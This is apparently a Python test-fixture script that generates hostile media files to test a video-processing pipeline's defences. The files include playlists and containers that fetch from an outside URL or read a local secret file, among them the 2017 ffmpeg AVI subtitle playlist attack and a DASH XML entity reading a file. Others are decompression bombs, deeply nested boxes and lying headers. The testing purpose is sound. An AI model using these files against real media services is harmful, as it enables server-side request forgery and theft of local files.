"""Bad and hostile files, each made from nothing: what is in it, and how it may end.

`python -m tests.unit.process.hostile FOLDER URL SECRET` writes all of them; those that would reach out point
at URL and at the file SECRET.
"""

import random
import struct
import subprocess
import sys
import tempfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

from tests.unit.process.corpus import FFMPEG

READY = "ready"
Make = Callable[["Bait"], bytes]


@dataclass(frozen=True)
class Bait:
    """Where hostile files point: an address that nobody may call, a file that nobody may read."""

    url: str
    secret: str


@dataclass(frozen=True)
class Bad:
    name: str
    make: Make
    ends: str


def text(template: str) -> Make:
    return lambda bait: template.replace("{url}", bait.url).replace("{secret}", bait.secret).encode()


def clip(*options: str, suffix: str = ".mp4", seconds: float = 1, size: str = "160x120") -> bytes:
    """Return a short clip, as ffmpeg makes it with `options`."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "clip" + suffix)
        picture = f"testsrc2=s={size}:r=25:d={seconds}"
        command = [FFMPEG, "-v", "error", "-f", "lavfi", "-i", picture, "-pix_fmt", "yuv420p"]
        codec = [] if "-c:v" in options else ["-c:v", "libx264", "-preset", "ultrafast"]
        subprocess.run([*command, *codec, *options, str(path)], check=True)
        return path.read_bytes()


def atom(kind: bytes, *bodies: bytes) -> bytes:
    body = b"".join(bodies)
    return (8 + len(body)).to_bytes(4) + kind + body


FTYP = atom(b"ftyp", b"qt  ", bytes(4), b"qt  ")


def referring(kind: bytes, target: Callable[[Bait], bytes]) -> Make:
    """Make a film whose data lies elsewhere, as its data reference says."""

    def make(bait: Bait) -> bytes:
        whole = clip(suffix=".mov")
        here = atom(b"url ", b"\0\0\0\1")
        there = atom(kind, b"\0\0\0\0", target(bait))
        at = whole.rindex(here)
        edited = bytearray(whole)
        for name in (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"):
            start = whole.rindex(name, 0, at) - 4
            length = int.from_bytes(whole[start : start + 4]) + len(there) - len(here)
            edited[start : start + 4] = length.to_bytes(4)
        return bytes(edited[:at] + there + edited[at + len(here) :])

    return make


def alias(bait: Bait) -> bytes:
    """Return a Mac alias record with a path, as QuickTime kept it."""
    path = bait.secret.encode()
    record = bytearray(150)
    struct.pack_into(">HH", record, 4, 150, 2)
    return bytes(record) + struct.pack(">hH", 2, len(path)) + path + bytes(len(path) % 2) + b"\xff\xff\0\0"


def reference_movie(bait: Bait) -> bytes:
    address = bait.url.encode() + b"/film.mov\0"
    reference = atom(b"rdrf", bytes(4), b"url ", len(address).to_bytes(4), address)
    return FTYP + atom(b"moov", atom(b"rmra", atom(b"rmda", reference)))


def subtitles_in_avi(bait: Bait) -> bytes:
    """Hide a playlist in the subtitles of an AVI file (the attack on ffmpeg of 2017)."""
    playlist = f"#EXTM3U\n#EXTINF:1,\nconcat:{bait.url}/a|file://{bait.secret}\n#EXT-X-ENDLIST\n".encode()
    gab2 = b"GAB2\0\2\0" + bytes(6) + b"\4\0" + len(playlist).to_bytes(4, "little") + playlist
    whole = bytearray(clip("-c:v", "mpeg4", suffix=".avi"))
    at = whole.index(b"movi") + 4
    chunk = b"01tx" + len(gab2).to_bytes(4, "little") + gab2 + bytes(len(gab2) % 2)
    whole[at:at] = chunk
    length = int.from_bytes(whole[4:8], "little") + len(chunk)
    whole[4:8] = length.to_bytes(4, "little")
    return bytes(whole)


def playlist_of_packets(bait: Bait) -> bytes:
    """Write a playlist whose every 188th letter is a G, as the packets of a transport stream begin."""
    lines = f"#EXTM3U\n#EXTINF:1,\n{bait.url}/a.ts\n#EXT-X-ENDLIST\n".encode()
    packets = (b"G" + part.ljust(187, b"\n") for part in [lines, b"#", b"#", b"#", b"#", b"#"])
    return b"".join(packets)


def behind_a_true_beginning(bait: Bait) -> bytes:
    return FTYP + atom(b"free", f"#EXTM3U\n#EXTINF:1,\n{bait.url}/a.ts\n#EXT-X-ENDLIST\n".encode())


def edited(whole: bytes, box: bytes, offset: int, value: bytes) -> bytes:
    """Overwrite `value` at `offset` behind the name of a box, wherever one is."""
    data, at = bytearray(whole), whole.find(box)
    while at >= 0:
        data[at + 4 + offset : at + 4 + offset + len(value)] = value
        at = whole.find(box, at + 4)
    return bytes(data)


def claiming_a_duration(seconds: int) -> bytes:
    """Make a second of film whose every header states another length."""
    whole = clip()
    data = edited(whole, b"mvhd", 16, (seconds * 1000 & 0xFFFFFFFF).to_bytes(4))
    data = edited(data, b"tkhd", 20, (seconds * 1000 & 0xFFFFFFFF).to_bytes(4))
    data = edited(data, b"mdhd", 16, (seconds * 12800 & 0xFFFFFFFF).to_bytes(4))
    return edited(data, b"elst", 8, (seconds * 1000 & 0xFFFFFFFF).to_bytes(4)) if seconds else data


def giant_jpegs(*, in_the_container: bool) -> bytes:
    """Make a film whose JPEG pictures claim 16384 x 16384 pixels, and have none of them."""
    whole = clip("-c:v", "mjpeg", "-pix_fmt", "yuvj420p", suffix=".mov")
    side = (16384).to_bytes(2)
    data = whole.replace(b"\xff\xc0\0\x11\x08\0\x78\0\xa0", b"\xff\xc0\0\x11\x08" + side + side)
    assert data != whole
    return edited(data, b"jpeg", 24, side + side) if in_the_container else data


def compressed_index(bait: Bait) -> bytes:
    """Make an index that unpacks to 900 times its size (and to nothing)."""
    size = 100_000_000
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(10_000_000)) for _ in range(size // 10_000_000)) + packer.flush()
    index = atom(b"cmov", atom(b"dcom", b"zlib"), atom(b"cmvd", size.to_bytes(4), packed))
    return FTYP + atom(b"moov", index)


def nested(depth: int) -> bytes:
    data = b""
    for _ in range(depth):
        data = atom(b"trak", data)
    return FTYP + atom(b"moov", data)


def many_streams(count: int) -> bytes:
    """Make a film with as many tracks of pictures, each of one."""
    return clip(*["-map", "0:v"] * count, "-c:v", "mjpeg", "-frames:v", "1", suffix=".mkv")


def samples_without_number(_: Bait) -> bytes:
    return edited(clip(), b"stsz", 8, b"\xff\xff\xff\xf0")


def times_without_number(_: Bait) -> bytes:
    return edited(clip(), b"stts", 8, b"\xff\xff\xff\xf0\xff\xff\xff\xf0")


def half_an_hour_in_little(_: Bait) -> bytes:
    """Make 30 minutes of full HD in less than two megabytes: nothing moves."""
    with tempfile.TemporaryDirectory() as folder:
        short, long = Path(folder, "short.mp4"), Path(folder, "long.mp4")
        still = ["-f", "lavfi", "-i", "color=gray:s=1920x1080:r=10:d=10", "-c:v", "libx264", "-g", "100"]
        for arguments in (
            [*still, "-preset", "ultrafast", "-pix_fmt", "yuv420p", str(short)],
            ["-stream_loop", "179", "-i", str(short), "-c", "copy", str(long)],
        ):
            subprocess.run([FFMPEG, "-v", "error", *arguments], check=True)
        assert long.stat().st_size < 2_000_000
        return long.read_bytes()


def a_million_pictures_a_second(_: Bait) -> bytes:
    return clip(
        "-bsf:v", "setts=pts=N:dts=N:time_base=1/1000000", "-bf", "0", "-video_track_timescale", "1000000"
    )


def metadata_within_itself(_: Bait) -> bytes:
    """Make an FLV whose first tag is objects in objects in objects."""
    script = b"\2\0\x0aonMetaData" + b"\3\0\1a" * 50_000
    tag = b"\x12" + len(script).to_bytes(3) + bytes(7) + script
    return b"FLV\1\5\0\0\0\x09\0\0\0\0" + tag + len(tag).to_bytes(4)


def elements_within_themselves(_: Bait) -> bytes:
    """Make a Matroska file of tags in tags in tags, each of unknown length."""
    head = b"\x1a\x45\xdf\xa3\x8b\x42\x82\x88matroska"
    return head + b"\x18\x53\x80\x67\x01" + b"\xff" * 7 + b"\x67\xc8\x01\xff\xff\xff\xff\xff\xff\xff" * 5000


def no_pictures_in_the_track(_: Bait) -> bytes:
    whole = clip("-movflags", "+frag_keyframe+empty_moov")
    return whole[: whole.index(b"moof") - 4]


def empty_packets(_: Bait) -> bytes:
    return (b"G\x1f\xff\x10" + b"\xff" * 184) * 200


def program(kind: bytes) -> Make:
    return lambda _: kind + random.Random(3).randbytes(3000)


def _noisy(whole: bytes) -> bytes:
    """Spoil every hundredth byte behind the header."""
    data, chance = bytearray(whole), random.Random(4)
    for at in range(200, len(data) - 2000, 100):
        data[at] = chance.randrange(256)
    return bytes(data)


def playlist(segment: str, line: str = "") -> Make:
    return text(f"#EXTM3U\n#EXT-X-TARGETDURATION:4\n{line}\n#EXTINF:4,\n{segment}\n#EXT-X-ENDLIST\n")


def dash(base: str, before: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{before}<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        f'mediaPresentationDuration="PT4S"><Period><AdaptationSet mimeType="video/mp4">'
        f'<Representation id="1" bandwidth="1"><BaseURL>{base}</BaseURL></Representation>'
        f"</AdaptationSet></Period></MPD>"
    )


SDP = (
    "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
    "m=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
)

FILES = (
    # Playlists and the like that name what the reader shall fetch
    Bad("hls segment", playlist("{url}/a.ts"), "not_a_video"),
    Bad("hls key", playlist("a.ts", '#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"'), "not_a_video"),
    Bad("hls header", playlist("a.mp4", '#EXT-X-MAP:URI="{url}/header.mp4"'), "not_a_video"),
    Bad("hls master", text("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}/a.m3u8\n"), "not_a_video"),
    Bad("hls of a local file", playlist("file://{secret}"), "not_a_video"),
    Bad(
        "hls of a nested protocol",
        playlist("concat:{url}/a|subfile,,start,0,end,9,,:{secret}"),
        "not_a_video",
    ),
    Bad("hls behind blanks", text("\n\n  #EXTM3U\n#EXTINF:1,\n{url}/a.ts\n"), "not_a_video"),
    Bad("hls in the packets of a transport stream", playlist_of_packets, "corrupt"),
    Bad("hls behind a true beginning", behind_a_true_beginning, "corrupt"),
    Bad("dash", text(dash("{url}/a.mp4")), "not_a_video"),
    Bad(
        "dash with an entity",
        text(dash("{url}/&e;", '<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>')),
        "not_a_video",
    ),
    Bad("concat of an address", text("ffconcat version 1.0\nfile {url}/a.mp4\n"), "not_a_video"),
    Bad("concat of a local file", text("ffconcat version 1.0\nfile '{secret}'\n"), "not_a_video"),
    Bad("session description", text(SDP), "not_a_video"),
    Bad("rtsp text", text("RTSPtext\n{url}/a\n"), "not_a_video"),
    Bad("asx", text('<asx version="3.0"><entry><ref href="{url}/a.wmv"/></entry></asx>'), "not_a_video"),
    Bad("pls", text("[playlist]\nFile1={url}/a.mp4\nNumberOfEntries=1\n"), "not_a_video"),
    Bad("smil", text('<smil><body><video src="{url}/a.mp4"/></body></smil>'), "not_a_video"),
    Bad(
        "svg",
        text(
            '<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/a.png" width="9" height="9"/></svg>'
        ),
        "not_a_video",
    ),
    Bad("srt", text("1\n00:00:00,000 --> 00:00:01,000\n<img src={url}/a>\n"), "not_a_video"),
    Bad("ass", text("[Script Info]\n[Events]\nDialogue: 0,0:0:0,0:0:1,,,,,,,{url}\n"), "not_a_video"),
    Bad("webvtt", text("WEBVTT\n\n00:00.000 --> 00:01.000\n<c>{url}</c>\n"), "not_a_video"),
    Bad("subtitles in avi", subtitles_in_avi, READY),
    Bad("data reference to an address", referring(b"url ", lambda bait: f"{bait.url}/a\0".encode()), READY),
    Bad("data reference to a local file", referring(b"alis", alias), "corrupt"),
    Bad("reference movie", reference_movie, "no_video"),
    # Things that unpack, repeat or nest
    Bad("index that unpacks to 100 MB", compressed_index, "corrupt"),
    Bad("boxes in boxes", lambda _: nested(20_000), "no_video"),
    Bad("elements in elements", elements_within_themselves, "corrupt"),
    Bad("metadata in metadata", metadata_within_itself, "corrupt"),
    Bad("200 streams", lambda _: many_streams(200), "not_a_video"),
    Bad("30 minutes in 2 MB", half_an_hour_in_little, "too_long"),
    Bad("four thousand million samples", samples_without_number, "corrupt"),
    Bad("four thousand million times", times_without_number, "corrupt"),
    # Lies
    Bad("claims a year", lambda _: claiming_a_duration(365 * 86_400), READY),
    Bad("claims 27 hours", lambda _: claiming_a_duration(99_999), READY),
    Bad("claims nothing", lambda _: claiming_a_duration(0), READY),
    Bad("says to play nothing", lambda _: edited(clip(), b"elst", 8, bytes(4)), "corrupt"),
    Bad("a million pictures a second", a_million_pictures_a_second, READY),
    Bad("one pixel", lambda _: clip("-vf", "scale=1:1", "-c:v", "ffv1", suffix=".mkv"), "no_video"),
    Bad("one line", lambda _: clip("-vf", "scale=640:2", "-c:v", "ffv1", suffix=".mkv"), "no_video"),
    Bad("16384 x 16384", lambda _: giant_jpegs(in_the_container=True), "too_large"),
    Bad("16384 x 16384, unsaid", lambda _: giant_jpegs(in_the_container=False), "too_large"),
    Bad("no pictures in the track", no_pictures_in_the_track, "corrupt"),
    Bad("empty packets", empty_packets, "corrupt"),
    Bad(
        "encrypted",
        lambda _: clip(
            *("-encryption_scheme", "cenc-aes-ctr", "-encryption_key", "00" * 15 + "01"),
            *("-encryption_kid", "00" * 16),
        ),
        "corrupt",
    ),
    Bad("codec of tomorrow", lambda _: clip("-c:v", "libvvenc", "-preset", "faster"), "not_a_video"),
    Bad("noise in the pictures", lambda _: _noisy(clip(seconds=2)), READY),
    # Other things by their true names
    Bad("zip", program(b"PK\3\4"), "not_a_video"),
    Bad("program for windows", program(b"MZ\x90\0"), "not_a_video"),
    Bad("program for linux", program(b"\x7fELF\2\1\1"), "not_a_video"),
    Bad("pdf", program(b"%PDF-1.7\n"), "not_a_video"),
    Bad("html", text("<!doctype html><script src={url}/a.js></script>"), "not_a_video"),
)


def main(arguments: Sequence[str]) -> None:
    folder, url, secret = arguments
    Path(folder).mkdir(parents=True, exist_ok=True)
    for bad in FILES:
        Path(folder, bad.name.replace(" ", "-")).write_bytes(bad.make(Bait(url, secret)))


if __name__ == "__main__":
    main(sys.argv[1:])
